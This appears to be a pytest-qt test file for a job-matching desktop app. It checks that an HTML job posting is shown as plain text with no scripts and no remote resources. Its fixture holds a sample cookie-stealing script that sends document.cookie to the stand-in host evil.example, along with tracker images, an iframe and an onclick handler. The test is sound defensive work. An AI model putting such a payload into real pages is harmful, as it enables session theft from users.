"""A posting from a hostile page is shown as text: no script runs, nothing remote is loaded."""

from __future__ import annotations

from pathlib import Path

from PySide6.QtCore import QUrl
from PySide6.QtGui import QTextDocument
from pytestqt.qtbot import QtBot

from matcher.domain import RankedMatch, ScoreBreakdown
from matcher.ingest.postings import read_posting_file
from matcher.ui.detail.pane import DetailPane, OfflineBrowser

HOSTILE_PAGE = """<html><head><title>Data Engineer at Acme</title>
<script>document.location='http://evil.example/steal?c='+document.cookie</script>
<link rel="stylesheet" href="http://tracker.example/style.css"></head>
<body><h1>Data Engineer</h1><p>Acme builds pipelines.</p>
<img src="http://tracker.example/pixel.gif"><iframe src="http://evil.example/frame"></iframe>
<h2>Requirements</h2><ul><li>3+ years of Python</li><li>SQL</li></ul>
<p onclick="alert('x')">Apply <a href="http://evil.example/apply">here</a>.</p></body></html>"""


def test_hostile_html_posting_is_shown_without_scripts_or_remote_resources(qtbot: QtBot, tmp_path: Path) -> None:
    page = tmp_path / "posting.html"
    page.write_text(HOSTILE_PAGE, encoding="utf-8")
    [posting] = read_posting_file(page).postings
    posting.id = 1
    assert "document.cookie" not in posting.description and "alert(" not in posting.description

    pane = DetailPane()
    qtbot.addWidget(pane)
    match = RankedMatch(1, posting.title, posting.company, 50.0, ScoreBreakdown(0.5, 0.5, 0.5, 0.5, 0.5), requirements=[])
    pane.show_match(match, posting, None)
    assert isinstance(pane.text, OfflineBrowser), "the posting text is shown in the offline browser"
    shown = pane.text.toHtml()
    assert "Acme builds pipelines" in shown
    for hostile in ("<script", "evil.example/steal", "pixel.gif", "<iframe", "onclick"):
        assert hostile not in shown
    image = QTextDocument.ResourceType.ImageResource.value
    assert pane.text.loadResource(image, QUrl("http://tracker.example/pixel.gif")) is None
